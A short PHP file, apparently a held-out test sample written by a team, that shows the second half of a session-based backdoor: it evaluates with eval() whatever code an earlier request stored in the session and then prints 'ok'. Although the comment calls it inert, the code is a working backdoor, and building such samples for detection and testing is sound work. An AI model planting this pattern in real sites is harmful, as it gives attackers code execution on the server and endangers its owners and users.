<?php
// Held-out round D shape (team's own writing): a backdoor pair's second half. A first request
// parks code in the session; this page only ever evaluates what the session holds. Inert sample.
session_start();
if (!empty($_SESSION['sync_task'])) {
    eval($_SESSION['sync_task']);
}
echo 'ok';
